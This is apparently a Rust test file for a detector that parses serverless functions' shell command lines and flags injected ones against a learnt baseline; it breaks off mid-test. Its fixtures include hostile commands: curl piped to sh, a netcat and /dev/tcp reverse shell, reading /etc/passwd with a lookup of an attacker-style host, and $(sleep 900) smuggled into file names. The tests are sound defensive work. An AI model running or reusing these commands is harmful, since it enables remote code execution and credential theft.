//! The parser's reading of command lines, each rule of [`judge`], and the
//! whole path (native events -> ingest's decoder -> train -> detect) on a
//! function that shells out on every invocation.

#![allow(clippy::unwrap_used)]

use std::sync::Arc;

use super::*;
use crate::alert::{Kind, Severity};
use crate::detect::Detector;
use crate::train::Trainer;

fn line(s: &str) -> ShellLine {
    match parse(s) {
        Parsed::Line(l) => l,
        Parsed::Unparsed(why) => panic!("{s:?} did not parse: {why}"),
    }
}

fn names_of(l: &ShellLine) -> Vec<&str> {
    l.commands.iter().map(|c| c.name.as_str()).collect()
}

#[test]
fn the_command_line_of_a_shell() {
    let s = |exe: &str, args: &[&str], cmdline: Option<&str>| {
        script_of(exe, args, cmdline).map(|c| c.into_owned())
    };
    assert_eq!(
        s("/bin/sh", &["/bin/sh", "-c", "echo a; id"], None).as_deref(),
        Some("echo a; id")
    );
    assert_eq!(
        s("/bin/bash", &["bash", "-ec", "ls"], None).as_deref(),
        Some("ls")
    );
    assert_eq!(
        s(
            "/bin/bash",
            &["bash", "--noprofile", "-c", "ls", "argv0"],
            None
        )
        .as_deref(),
        Some("ls")
    );
    assert_eq!(
        s("/bin/busybox", &["busybox", "sh", "-c", "wget x"], None).as_deref(),
        Some("wget x")
    );
    // Not command lines: a script file, a non-shell, `busybox wget`.
    assert_eq!(s("/bin/sh", &["sh", "/var/task/run.sh"], None), None);
    assert_eq!(s("/usr/bin/convert", &["convert", "-c", "x"], None), None);
    assert_eq!(
        s("/bin/busybox", &["busybox", "wget", "-c", "x"], None),
        None
    );
    // `cmdline` only: argv joined by spaces, quoted or not.
    assert_eq!(
        s(
            "/bin/sh",
            &[],
            Some("/bin/sh -c echo converting /tmp/x.jpg; cat /etc/passwd")
        )
        .as_deref(),
        Some("echo converting /tmp/x.jpg; cat /etc/passwd")
    );
    assert_eq!(
        s("/bin/sh", &[], Some(r#"sh -c "echo \"a b\" \$HOME""#)).as_deref(),
        Some(r#"echo "a b" $HOME"#)
    );
    assert_eq!(
        s("/bin/sh", &[], Some("sh -c 'ls -l'")).as_deref(),
        Some("ls -l")
    );
    // Two quoted words are not one argv element: kept as written.
    assert_eq!(
        s("/bin/sh", &[], Some("sh -c 'a' 'b'")).as_deref(),
        Some("'a' 'b'")
    );
    assert_eq!(s("/bin/sh", &[], Some("sh -c")), None);
}

#[test]
fn commands_structure_and_arguments() {
    let l =
        line("echo converting /tmp/x.jpg; cat /etc/passwd; getent hosts exfil.attacker-c2.example");
    assert_eq!(names_of(&l), ["echo", "cat", "getent"]);
    assert!(l.structure.contains(structure::SEQUENCE));
    assert_eq!(l.shape, "echo W P ; cat P ; getent W W");

    let l = line(
        r#"convert "/tmp/in/"; curl -s http://203.0.113.7/x | sh; echo "" -resize 256x256 "/tmp/out/x.jpg""#,
    );
    assert_eq!(names_of(&l), ["convert", "curl", "sh", "echo"]);
    for s in [
        structure::SEQUENCE,
        structure::PIPE,
        structure::PIPE_TO_SHELL,
    ] {
        assert!(l.structure.contains(s), "{s}: {:?}", l.structure);
    }
    assert_eq!(l.network_args, ["http://203.0.113.7/x"]);

    let l = line(
        r#"convert "/tmp/in/" && nc 198.51.100.9 4444 -e /bin/sh #" -resize 256x256 "/tmp/out/a.jpg""#,
    );
    assert_eq!(names_of(&l), ["convert", "nc"]);
    assert!(l.structure.contains(structure::AND));
    assert_eq!(l.network_args, ["198.51.100.9"]);

    let l = line(r#"convert "/tmp/in/$(sleep 900)" -resize 256x256 "/tmp/out/x.jpg""#);
    assert_eq!(names_of(&l), ["sleep", "convert"]);
    assert!(l.structure.contains(structure::COMMAND_SUBSTITUTION));
    assert!(runs_sleep(&l));
    assert_eq!(l.commands[1].words[1], "/tmp/in/$(sleep 900)");

    let l = line("tar czf - /tmp/w | base64 -w0 > /tmp/o.b64 `id -u` || true");
    assert!(l.structure.contains(structure::BACKTICKS));
    assert!(l.structure.contains(structure::OR));
    assert!(names_of(&l).contains(&"id"));
    assert!(l.redirects.contains("> /tmp"), "{:?}", l.redirects);

    let l = line("diff <(sort /tmp/a) <(sort /tmp/b) & wait");
    assert!(l.structure.contains(structure::PROCESS_SUBSTITUTION));
    assert!(l.structure.contains(structure::BACKGROUND));
    assert_eq!(names_of(&l), ["sort", "sort", "diff", "wait"]);

    let l = line("cat <<EOF > /tmp/x.sh\ncurl http://x.example/a\nEOF\n");
    assert!(l.structure.contains(structure::HERE_DOCUMENT));

    let l = line("exec 3<>/dev/tcp/203.0.113.9/443; bash -i >&3 2>&1");
    assert!(l.redirects.contains("<> /dev/tcp"), "{:?}", l.redirects);
    assert!(!l.network_args.is_empty());

    // Nested shells, eval and wrappers: what they run is run.
    let l = line(
        r#"sh -c "curl -s http://a.example/x | bash"; eval 'wget -q http://b.example'; nohup timeout 5 nc -l 4444"#,
    );
    let n = names_of(&l);
    for c in [
        "sh", "curl", "bash", "eval", "wget", "nohup", "timeout", "nc",
    ] {
        assert!(n.contains(&c), "{c} in {n:?}");
    }
    assert!(l.structure.contains(structure::NESTED_SHELL));
    assert!(l.structure.contains(structure::PIPE_TO_SHELL));

    let l = line("$CMD -x; f() { ls; }; if true; then X=1 pwd; fi");
    for s in [
        structure::DYNAMIC_COMMAND,
        structure::FUNCTION,
        structure::COMPOUND,
        structure::ASSIGNMENT,
        structure::GROUP,
    ] {
        assert!(l.structure.contains(s), "{s}: {:?}", l.structure);
    }
}

#[test]
fn quoted_names_are_one_argument_whatever_they_hold() {
    for name in [
        "my photo (1).jpg",
        "l'été à Paris.jpg",
        "José's \"best\" shot.png",
        "semi;colon && pipe | $(not run) `nor this`.jpg",
        "日本の写真 2026-11-03 at 10.14.22.heic",
        "tab\there\nnewline.webp",
    ] {
        let single = format!("'{}'", name.replace('\'', r#"'"'"'"#));
        let double = format!(
            "\"{}\"",
            name.replace('\\', r"\\")
                .replace('"', "\\\"")
                .replace('$', "\\$")
                .replace('`', "\\`")
        );
        for quoted in [single, double] {
            let l = line(&format!(
                "convert /tmp/in/{quoted} -resize 256x256 /tmp/out/{quoted}"
            ));
            assert_eq!(names_of(&l), ["convert"], "{quoted}");
            assert!(l.structure.is_empty(), "{quoted}: {:?}", l.structure);
            assert_eq!(
                l.commands[0].words.len(),
                5,
                "{quoted}: {:?}",
                l.commands[0].words
            );
            assert_eq!(l.commands[0].words[1], format!("/tmp/in/{name}"));
            assert_eq!(l.shape, "convert P -resize W P", "{quoted}");
        }
    }
}

#[test]
fn network_looking_arguments() {
    for w in [
        "http://203.0.113.7/x",
        "https://a.example/p?q=1",
        "203.0.113.7",
        "2001:db8::1",
        "198.51.100.9:4444",
        "exfil.example.com:8080",
        "[2001:db8::1]:443",
        "user@host.example:22",
        "/dev/tcp/1.2.3.4/80",
    ] {
        assert!(network_looking(w), "{w}");
    }
    for w in [
        "256x256",
        "00:00:01.500",
        "00:01:30",
        "/tmp/a.jpg",
        "file:///tmp/a",
        "-quality",
        "85",
        "report.final.pdf",
        "a:b",
    ] {
        assert!(!network_looking(w), "{w}");
    }
}

#[test]
fn what_does_not_parse_is_a_finding() {
    let base = trained(&["convert /tmp/a.jpg /tmp/b.jpg"; 20]);
    for bad in [
        r#"convert "/tmp/in/x.jpg -resize 1x1 /tmp/out"#,
        "echo $(",
        "if then fi",
        "a | | b",
    ] {
        let p = parse(bad);
        let Parsed::Unparsed(why) = &p else {
            panic!("{bad:?} parsed: {p:?}")
        };
        assert!(!why.is_empty());
        let f = judge(&p, &base);
        assert_eq!(f.len(), 1);
        assert_eq!(
            (f[0].rule, f[0].level),
            ("unparseable", Level::Medium),
            "{bad}"
        );
        assert!(f[0].why.contains("does not parse"), "{}", f[0].why);
    }
    // Over the limits: too long, too deep.
    let long = format!("echo {}", "a".repeat(MAX_SCRIPT_BYTES));
    assert!(matches!(parse(&long), Parsed::Unparsed(w) if w.contains("bytes long")));
    let deep = format!("{}echo{}", "$(".repeat(200), ")".repeat(200));
    assert!(matches!(parse(&deep), Parsed::Unparsed(w) if w.contains("nested")));
    let deep = format!("echo {}x{}", "$(echo ".repeat(10), ")".repeat(10));
    assert!(matches!(parse(&deep), Parsed::Unparsed(w) if w.contains("nested")));
    // A function whose lines sometimes do not parse: only low.
    let mut base = base;
    base.learn(&parse("echo 'oops"));
    let f = judge(&parse("echo \"oops"), &base);
    assert_eq!(f[0].level, Level::Low);
}

#[test]
fn hostile_strings_never_stop_the_parser() {
    let parts = [
        "'", "\"", "`", "$(", "${", "}", ")", "(", "<<", "<<<", "<(", "|", "&", ";", "\\", "é",
        "日本", "\n", "#", "$((", "))", "[[", "]]", "case", "esac", "if", "fi", "{", "=", "!", " ",
        "a", "\u{0}", "$'", "<&", ">&-", "2>", "~", "*", "?(", "@(",
    ];
    let mut seed: u64 = 0x2545_f491_4f6c_dd1d;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    for _ in 0..3_000 {
        let n = (next() % 20) as usize;
        let s: String = (0..n)
            .map(|_| parts[(next() % parts.len() as u64) as usize])
            .collect();
        // Either reading is fine; returning at all is the test.
        let _ = parse(&s);
    }
}

/// A baseline learnt from these lines.
fn trained(lines: &[&str]) -> ShellProfile {
    let mut p = ShellProfile::default();
    for l in lines {
        p.learn(&parse(l));
    }
    p
}

fn rules(script: &str, base: &ShellProfile) -> Vec<(&'static str, String, Level)> {
    judge(&parse(script), base)
        .into_iter()
        .map(|f| (f.rule, f.what, f.level))
        .collect()
}

#[test]
fn rule_new_command() {
    let base = trained(&[
        "echo converting /tmp/img-001.jpg",
        "echo converting /tmp/img-002.jpg",
    ]);
    assert!(rules("echo converting /tmp/img-777.jpg", &base).is_empty());
    let r = rules(
        "echo converting /tmp/x.jpg; cat /etc/passwd; getent hosts exfil.attacker-c2.example",
        &base,
    );
    assert!(
        r.contains(&("new_command", "cat".into(), Level::High)),
        "{r:?}"
    );
    assert!(
        r.contains(&("new_command", "getent".into(), Level::High)),
        "{r:?}"
    );
    // A harmless new command is medium; one on a sensitive path is high.
    let r = rules("convert /tmp/a.jpg /tmp/b.png", &base);
    assert_eq!(r, [("new_command", "convert".into(), Level::Medium)]);
    let r = rules("tac /etc/shadow", &base);
    assert_eq!(r, [("new_command", "tac".into(), Level::High)]);
    // Known commands are known wherever they appear.
    let base =
        trained(&["convert /tmp/a.jpg /tmp/b.jpg && curl -s -T /tmp/b.jpg https://up.example/x"]);
    assert!(
        rules(
            "convert /tmp/c.jpg /tmp/d.jpg && curl -s -T /tmp/d.jpg https://up.example/y",
            &base
        )
        .is_empty()
    );
}

#[test]
fn rule_new_structure() {
    let base = trained(&["gs -q -dNOPAUSE -sOutputFile=/tmp/r-1.pdf /tmp/r-1.ps"]);
    let r = rules(
        "gs -q -dNOPAUSE -sOutputFile=/tmp/r-2.pdf /tmp/r-2.ps; gs -q /tmp/x.ps",
        &base,
    );
    assert_eq!(
        r,
        [("new_structure", structure::SEQUENCE.into(), Level::Medium)]
    );
    let r = rules("gs -q /tmp/`gs`.ps", &base);
    assert_eq!(
        r,
        [("new_structure", structure::BACKTICKS.into(), Level::High)]
    );
    let r = rules("gs -q \"/tmp/$(gs -v).ps\"", &base);
    assert_eq!(
        r,
        [(
            "new_structure",
            structure::COMMAND_SUBSTITUTION.into(),
            Level::High
        )]
    );
    let r = rules("gs -q /tmp/a.ps | sh", &base);
    assert!(
        r.contains(&(
            "new_structure",
            structure::PIPE_TO_SHELL.into(),
            Level::High
        )),
        "{r:?}"
    );
    assert!(
        r.contains(&("new_structure", structure::PIPE.into(), Level::Medium)),
        "{r:?}"
    );
    assert!(
        r.contains(&("new_command", "sh".into(), Level::High)),
        "{r:?}"
    );
    // Structure the function always has is not news.
    let base = trained(&["ffmpeg -i /tmp/a.mp4 -f image2 - | convert - /tmp/a.jpg"]);
    assert!(
        rules(
            "ffmpeg -i /tmp/b.mp4 -f image2 - | convert - /tmp/b.jpg",
            &base
        )
        .is_empty()
    );
}

#[test]
fn rule_network_arguments() {
    let base = trained(&["convert /tmp/a.jpg /tmp/b.jpg"]);
    let r = rules("convert http://203.0.113.7/a.jpg /tmp/b.jpg", &base);
    assert_eq!(r[0].0, "network_argument");
    assert_eq!(r[0].2, Level::High);
    // A function that fetches URLs in its lines: a new URL is not news.
    let base = trained(&["curl -s -o /tmp/a.jpg https://cdn.example/a.jpg"]);
    assert!(rules("curl -s -o /tmp/b.jpg https://cdn.example/b.jpg", &base).is_empty());
}

#[test]
fn rule_redirects() {
    let base = trained(&["convert /tmp/a.jpg /tmp/b.jpg 2>/dev/null"]);
    assert!(rules("convert /tmp/c.jpg /tmp/d.jpg 2>/dev/null", &base).is_empty());
    let r = rules(
        "convert /tmp/c.jpg /tmp/d.jpg 2>/dev/null >/tmp/log.txt",
        &base,
    );
    assert_eq!(r, [("new_redirect", "> /tmp".into(), Level::Low)]);
    let r = rules(
        "convert /tmp/c.jpg /tmp/d.jpg >/dev/tcp/203.0.113.7/80",
        &base,
    );
    assert!(
        r.contains(&("new_redirect", "> /dev/tcp".into(), Level::High)),
        "{r:?}"
    );
}

#[test]
fn rule_sleep_in_a_command_line() {
    assert!(runs_sleep(&line(
        "convert \"/tmp/in/$(sleep 900)\" /tmp/o.jpg"
    )));
    assert!(runs_sleep(&line("x; sleep 5")));
    assert!(!runs_sleep(&line("echo 'no sleep here' \"sleep 5\"")));
}

#[test]
fn profiles_serialise_and_old_models_load() {
    let base = trained(&["convert /tmp/a.jpg /tmp/b.jpg 2>/dev/null", "echo $("]);
    let text = serde_json::to_string(&base).unwrap();
    let back: ShellProfile = serde_json::from_str(&text).unwrap();
    assert_eq!(back, base);
    assert_eq!((back.lines, back.unparsed), (2, 1));
    // A function profile stored before command lines were learnt.
    let old = r#"{"invocations":3,"timeouts":0,"idle_timeouts":0,"errors":0,"cold_starts":0,
        "versions":[],"code_sha256":[],"permissions":[],"role_arn":null,"dns_names":{},"dns_sites":{},
        "dns_max_per_invocation":0,"txt_max_per_invocation":0,"dns_tunnel_like":0,"resolved_prefixes":[],
        "exes":{"/bin/sh":3},"arg_shapes":{"/bin/sh -c P":3},"peers":{},"peer_sites":{},"raw_prefixes":[],
        "ports":{},"max_bytes_out":0,"file_dirs":{},"sensitive_paths":[],"api_actions":{},"api_services":[],
        "denied_max_per_invocation":0,"injection_paths":{},"event_samples":0,"numeric":null}"#;
    let p: crate::model::FunctionProfile = serde_json::from_str(old).unwrap();
    assert!(p.shell.is_none());
}

// ---- The whole path: native events, ingest's decoder, train, detect. ----

const NAMES: [&str; 14] = [
    "IMG_{n}",
    "photo {n}",
    "Screenshot 2026-11-03 at 10.14.{n}",
    "holiday ({n})",
    "l'été à Paris {n}",
    "José's \"best\" shot #{n}",
    "résumé-{n}",
    "日本の写真{n}",
    "a&b; c|d {n}",
    "100% $HOME `x` {n}",
    "smile 😀 {n}",
    "scan [{n}] (final) (2)",
    "O'Brien & Sons — {n}",
    "~tmp-{n}",
];

/// A file name of realistic variety, made from `k`.
fn file_name(k: u64) -> String {
    let base = NAMES[(k % NAMES.len() as u64) as usize].replace("{n}", &(k / 7).to_string());
    let ext = ["jpg", "png", "heic", "webp"][(k % 4) as usize];
    format!("{base}.{ext}")
}

/// Python's `shlex.quote`.
fn sq(s: &str) -> String {
    format!("'{}'", s.replace('\'', r#"'"'"'"#))
}

/// Double quotes with `"`, `\`, `$` and backticks escaped (Node's usual way).
fn dq(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        if matches!(c, '"' | '\\' | '$' | '`') {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('"');
    out
}

/// The command line of a benign invocation `k` of the thumbnailer.
fn benign_line(k: u64) -> String {
    let name = file_name(k);
    let q = if k.is_multiple_of(3) {
        dq(&name)
    } else {
        sq(&name)
    };
    let q_in = if k.is_multiple_of(3) {
        dq(&format!("/tmp/in/{name}"))
    } else {
        sq(&format!("/tmp/in/{name}"))
    };
    let size = [128, 256, 512, 1024][(k % 4) as usize];
    match k % 5 {
        0 => format!("convert {q_in} -auto-orient -resize {size}x{size} -strip /tmp/out/{q}"),
        1 => format!(
            "convert {q_in} -resize {size}x{size}\\> -quality {} /tmp/out/{q} 2>/dev/null",
            70 + k % 25
        ),
        _ => format!("convert {q_in} -resize {size}x{size} /tmp/out/{q}"),
    }
}

fn json_str(s: &str) -> String {
    serde_json::to_string(s).unwrap()
}

/// One invocation's events: the shell, and the invocation itself.
fn invocation(
    out: &mut Vec<String>,
    function: &str,
    req: &str,
    t_ms: i64,
    script: &str,
    timeout: bool,
) {
    let at = |ms: i64| {
        chrono::DateTime::from_timestamp_millis(ms)
            .unwrap()
            .format("%Y-%m-%dT%H:%M:%S%.3fZ")
            .to_string()
    };
    out.push(format!(
        r#"{{"type":"process","time":"{}","function":"{function}","request_id":"{req}","exe":"/bin/sh","args":["/bin/sh","-c",{}],"parent_exe":"/var/lang/bin/python3.12"}}"#,
        at(t_ms + 5),
        json_str(script)
    ));
    let (duration, cpu, status) = if timeout {
        (60_000.0, 41.0, "timeout")
    } else {
        (
            180.0 + (t_ms % 97) as f64,
            120.0 + (t_ms % 31) as f64,
            "success",
        )
    };
    let end = t_ms + duration as i64;
    out.push(format!(
        r#"{{"type":"invocation","time":"{}","function":"{function}","request_id":"{req}","duration_ms":{duration},"cpu_ms":{cpu},"memory_mb":1024,"max_memory_mb":{},"timeout_ms":60000,"status":"{status}"}}"#,
        at(end),
        300 + t_ms % 50
    ));
}

/// Decodes native event lines into `events` batches, as ingest does.
fn batches(lines: &[String]) -> Vec<arrow::array::RecordBatch> {
    use fnwatch_ingest::builder::BatchSink;
    use fnwatch_ingest::decode::{DecodeState, decode_record};
    use fnwatch_ingest::event::Position;
    let path: Arc<str> = Arc::from("generated.jsonl");
    let mut out = Vec::new();
    for (c, chunk) in lines.chunks(20_000).enumerate() {
        let mut state = DecodeState::default();
        let mut sink = BatchSink::new(0);
        for (i, l) in chunk.iter().enumerate() {
            let pos = Position::file(path.clone(), (c * 20_000 + i + 1) as u64);
            decode_record(l.as_bytes(), &pos, &mut state, &mut sink);
        }
        assert!(sink.dead.is_empty(), "{:?}", sink.dead.first());
        out.push(sink.events.finish());
    }
    out
}

const DAY1: i64 = 1_795_824_000_000; // 2026-11-28T00:00:00Z
const DAY2: i64 = DAY1 + 86_400_000;

/// The issue's scenario at full size: the thumbnailer runs a shell on every
/// invocation with names of every sort; three injected invocations differ
/// only inside the command line; so does one of a function that echoes.
/// 100,000 benign invocations raise nothing at medium or above, and each
/// injected one is high.
#[test]
fn injected_command_lines_are_high_and_benign_variety_is_quiet() {
    let benign_n: u64 = std::env::var("FNWATCH_SHELL_BENIGN")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(100_000);
    let mut train = Vec::new();
    for k in 0..6_000u64 {
        let t = DAY1 + (k as i64) * 14_000;
        invocation(
            &mut train,
            "thumbnailer",
            &format!("t-{k}"),
            t,
            &benign_line(k * 7 + 3),
            false,
        );
    }
    for k in 0..54u64 {
        let t = DAY1 + (k as i64) * 1_500_000;
        let script = format!("echo converting /tmp/img-{k:03}.jpg");
        invocation(&mut train, "echoer", &format!("e-{k}"), t, &script, false);
    }
    let mut trainer = Trainer::new();
    for b in batches(&train) {
        trainer.add_batch(&b).unwrap();
    }
    let model = trainer.finish("default", 1, "a", "b", "c");
    let sp = model.functions["thumbnailer"].shell.as_ref().unwrap();
    assert_eq!((sp.lines, sp.unparsed), (6_000, 0), "{sp:?}");
    assert_eq!(sp.commands.keys().collect::<Vec<_>>(), ["convert"]);

    let mut window = Vec::new();
    let injected = [
        (
            "thumbnailer",
            "inj-curl",
            r#"convert "/tmp/in/"; curl -s http://203.0.113.7/x | sh; echo "" -resize 256x256 "/tmp/out/"; curl -s http://203.0.113.7/x | sh; echo """#,
            false,
        ),
        (
            "thumbnailer",
            "inj-nc",
            r#"convert "/tmp/in/" && nc 198.51.100.9 4444 -e /bin/sh #" -resize 256x256 "/tmp/out/" && nc 198.51.100.9 4444 -e /bin/sh #""#,
            false,
        ),
        (
            "thumbnailer",
            "inj-sleep",
            r#"convert "/tmp/in/$(sleep 900)" -resize 256x256 "/tmp/out/$(sleep 900)""#,
            true,
        ),
        (
            "echoer",
            "inj-echo",
            "echo converting /tmp/x.jpg; cat /etc/passwd; getent hosts exfil.attacker-c2.example",
            false,
        ),
    ];
    for k in 0..benign_n {
        let t = DAY2 + (k as i64) * 800;
        // Names the training never saw: offset far past it.
        invocation(
            &mut window,
            "thumbnailer",
            &format!("b-{k}"),
            t,
            &benign_line(1_000_003 + k * 13),
            false,
        );
        if k % 2_000 == 0 {
            let script = format!("echo converting /tmp/img-{:03}.jpg", 100 + k / 2_000);
            invocation(
                &mut window,
                "echoer",
                &format!("be-{k}"),
                t + 3,
                &script,
                false,
            );
        }
        if let Some((f, r, s, timeout)) =
            injected.get((k / 997) as usize).filter(|_| k % 997 == 500)
        {
            invocation(&mut window, f, r, t + 7, s, *timeout);
        }
    }
    let mut d = Detector::new(&model);
    let started = std::time::Instant::now();
    for b in batches(&window) {
        d.add_batch(&b).unwrap();
    }
    let det = d.finish();
    eprintln!(
        "detect: {} invocations in {:.2} s (test profile, parser and decoder in the loop)",
        det.invocations,
        started.elapsed().as_secs_f64()
    );
    let medium: Vec<_> = det
        .alerts
        .iter()
        .filter(|a| a.severity >= Severity::Medium)
        .filter(|a| !a.request_id.as_deref().unwrap_or("").starts_with("inj-"))
        .map(|a| format!("{} {}", a.severity.as_str(), a.summary))
        .collect();
    assert!(
        medium.is_empty(),
        "{} benign invocations medium+, e.g.:\n{}",
        medium.len(),
        medium
            .iter()
            .take(10)
            .cloned()
            .collect::<Vec<_>>()
            .join("\n")
    );
    for (f, r, script, timeout) in injected {
        let a = det
            .alerts
            .iter()
            .find(|a| a.request_id.as_deref() == Some(r) && a.kind == Kind::UnexpectedProcess)
            .unwrap_or_else(|| panic!("no unexpected_process alert for {r}"));
        assert!(
            a.severity >= Severity::High,
            "{r}: {} {}",
            a.severity.as_str(),
            a.summary
        );
        assert_eq!(a.function, f);
        assert_eq!(a.evidence["cmdline"], script, "{r}");
        assert!(
            a.summary.contains("ran the shell command line"),
            "{}",
            a.summary
        );
        let base = &a.evidence["baseline"];
        assert!(base["command_lines"].as_u64().unwrap() >= 54, "{base}");
        assert!(!base["commands"].as_array().unwrap().is_empty(), "{base}");
        if timeout {
            let s = det
                .alerts
                .iter()
                .find(|a| a.request_id.as_deref() == Some(r) && a.kind == Kind::SleepTimeout)
                .unwrap_or_else(|| panic!("no sleep_timeout alert for {r}"));
            assert!(s.severity >= Severity::High, "{}", s.summary);
            assert_eq!(s.evidence["sleep_child"], true);
        }
    }
    let echo = det
        .alerts
        .iter()
        .find(|a| a.request_id.as_deref() == Some("inj-echo") && a.kind == Kind::UnexpectedProcess)
        .unwrap();
    let rules: Vec<&str> = echo.evidence["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["what"].as_str().unwrap())
        .collect();
    assert!(
        rules.contains(&"cat") && rules.contains(&"getent"),
        "{rules:?}"
    );
    assert!(echo.summary.contains("`echo`"), "{}", echo.summary);
}

/// A model trained before command lines were parsed still loads and
/// judges shells by executable and argument shape, as it did.
#[test]
fn models_without_command_lines_judge_as_before() {
    let mut train = Vec::new();
    for k in 0..200u64 {
        invocation(
            &mut train,
            "f",
            &format!("t-{k}"),
            DAY1 + k as i64 * 60_000,
            &format!("echo converting /tmp/img-{k}.jpg"),
            false,
        );
    }
    let mut trainer = Trainer::new();
    for b in batches(&train) {
        trainer.add_batch(&b).unwrap();
    }
    let mut model = trainer.finish("default", 1, "a", "b", "c");
    let text = serde_json::to_string(&model).unwrap();
    assert!(
        text.contains("\"shell\":{"),
        "the model stores command lines"
    );
    // As an older build wrote it.
    for p in model.functions.values_mut() {
        p.shell = None;
    }
    let old: crate::model::Model = serde_json::from_str(
        &serde_json::to_string(&model)
            .unwrap()
            .replace(",\"shell\":null", ""),
    )
    .unwrap();
    assert!(old.functions["f"].shell.is_none());
    let mut window = Vec::new();
    invocation(
        &mut window,
        "f",
        "x",
        DAY2,
        "echo converting /tmp/x.jpg; cat /etc/passwd",
        false,
    );
    let mut d = Detector::new(&old);
    for b in batches(&window) {
        d.add_batch(&b).unwrap();
    }
    // Same `/bin/sh -c P` shape as training: the old model sees nothing.
    assert!(
        d.finish()
            .alerts
            .iter()
            .all(|a| a.kind != Kind::UnexpectedProcess)
    );
}

/// The parser's cost per command line (`cargo test -p fnwatch-models
/// parse_cost -- --ignored --nocapture`). A figure of the build it runs in:
/// the dev profile runs this crate unoptimised and dependencies at
/// `opt-level = 1`, so a release build is faster.
#[test]
#[ignore = "a timing print, not a check"]
fn parse_cost() {
    let lines: Vec<String> = (0..20_000u64).map(|k| benign_line(k * 31 + 7)).collect();
    let started = std::time::Instant::now();
    let mut parsed = 0usize;
    for l in &lines {
        if matches!(parse(l), Parsed::Line(_)) {
            parsed += 1;
        }
    }
    let took = started.elapsed();
    eprintln!(
        "parsed {parsed} of {} command lines ({} bytes on average) in {:.2} s: {:.1} µs per line",
        lines.len(),
        lines.iter().map(String::len).sum::<usize>() / lines.len(),
        took.as_secs_f64(),
        took.as_secs_f64() * 1e6 / lines.len() as f64
    );
    let mut base = ShellProfile::default();
    let all: Vec<Parsed> = lines.iter().map(|l| parse(l)).collect();
    for p in &all {
        base.learn(p);
    }
    let started = std::time::Instant::now();
    let findings: usize = all.iter().map(|p| judge(p, &base).len()).sum();
    eprintln!(
        "judged them against their own profile ({findings} findings): {:.1} µs per line",
        started.elapsed().as_secs_f64() * 1e6 / lines.len() as f64
    );
}

/// Lines the fast reader must take (not hand to the parser), with what the
/// parser's walk makes of them.
#[test]
fn the_fast_reader_takes_common_lines_and_agrees_with_the_parser() {
    let common = [
        "convert '/tmp/in/photo (3).jpg' -resize 256x256 '/tmp/out/photo (3).jpg' 2>/dev/null",
        r#"convert "/tmp/in/José's \"best\" shot #1.jpg" -strip "/tmp/out/x \$HOME \`x\`.png""#,
        "pdftotext -layout /tmp/in/a.pdf /tmp/out/a.txt && wc -c /tmp/out/a.txt",
        "exiftool -json '/tmp/in/日本の写真1.heic' > '/tmp/out/日本の写真1.json'",
        "gzip -9 /tmp/x; mv /tmp/x.gz /tmp/out/ &",
        "cat /tmp/a | sort | uniq -c 2>&1",
        "git clone -q https://github.com/example/repo.git /tmp/repo || echo failed >&2",
        "ls -la &> /tmp/ls.log",
        r"echo a\ b 'c d' e\;f",
        "ffmpeg -y -i '/tmp/in/a b.mp4' -vf scale=512:-2 '/tmp/out/a b.mp4'",
        "LANG=C sort -u /tmp/a > /tmp/b",
    ];
    for line in common {
        let fast = super::fast::read(line).unwrap_or_else(|| {
            panic!("the fast reader handed a common line to the parser: {line}")
        });
        assert_eq!(
            Parsed::Line(fast),
            super::walk(line),
            "fast reader and parser disagree on {line}"
        );
    }
    // Outside the subset: the parser's.
    for line in [
        "echo $(id)",
        "echo `id`",
        "echo $HOME",
        "x[1]=a convert x y",
        "A=1",
        "convert x y # comment",
        "{ echo a; }",
        "(echo a)",
        "if true; then echo a; fi",
        "sh -c 'id'",
        "nohup curl http://x",
        "cat <<EOF\na\nEOF",
        "cat <<< word",
        "echo a\necho b",
        "echo ~/x",
        "echo 'unterminated",
        "a &&",
        "| a",
        "",
        "diff <(ls a) <(ls b)",
    ] {
        assert!(
            super::fast::read(line).is_none(),
            "the fast reader took a line outside its subset: {line:?}"
        );
    }
}

/// The fast reader against the parser on random lines built from the
/// pieces injections and file names are made of: whenever the fast reader
/// takes a line, the parser's walk must make the same of it. Fixed seed;
/// `FNWATCH_SHELL_CASES` runs more, `FNWATCH_SHELL_SEED` others.
#[test]
fn the_fast_reader_agrees_with_the_parser_on_random_lines() {
    const PIECES: &[&str] = &[
        "convert",
        "ffmpeg",
        "curl",
        "nc",
        "sh",
        "bash",
        "cat",
        "echo",
        "/usr/bin/env",
        "eval",
        "-resize",
        "256x256",
        "-e",
        "/bin/sh",
        "-c",
        "-s",
        "x.jpg",
        "/tmp/in/a b.jpg",
        "'a b'",
        "'it''s'",
        "'$HOME'",
        "\"q\"",
        "\"a \\\" b\"",
        "\"\\$x\"",
        "\"`\"",
        "\"$x\"",
        "$x",
        "$(id)",
        "`id`",
        "~",
        "#",
        "a#b",
        "x=1",
        "scale=2:-1",
        "a\\ b",
        "\\;",
        ";",
        ";;",
        "&&",
        "||",
        "|",
        "&",
        "|&",
        ">",
        ">>",
        "<",
        "2>",
        "2>&1",
        ">&2",
        ">&-",
        "&>",
        "&>>",
        "<<",
        "<<<",
        "(",
        ")",
        "{",
        "}",
        "!",
        "if",
        "http://203.0.113.7/x",
        "198.51.100.9:4444",
        "é😀",
        "\t",
        "10>",
        "\\\"",
        "'\\'",
        "a+=b",
        "x[0]=1",
        "=",
        "LANG=C",
        "\"a b\"c'd'",
        "a\u{a0}b",
        "\u{3000}",
        "\u{2028}",
    ];
    let cases: u64 = std::env::var("FNWATCH_SHELL_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(200_000);
    let mut state: u64 = std::env::var("FNWATCH_SHELL_SEED")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(0x9e37_79b9_7f4a_7c15)
        | 1;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let (mut taken, mut compared) = (0u64, 0u64);
    for _ in 0..cases {
        let n = 1 + next() % 9;
        let mut line = String::new();
        for _ in 0..n {
            line.push_str(PIECES[(next() % PIECES.len() as u64) as usize]);
            // Mostly a space between pieces, sometimes none.
            if next() % 5 != 0 {
                line.push(' ');
            }
        }
        compared += 1;
        if let Some(fast) = super::fast::read(&line) {
            taken += 1;
            assert_eq!(
                Parsed::Line(fast),
                super::walk(&line),
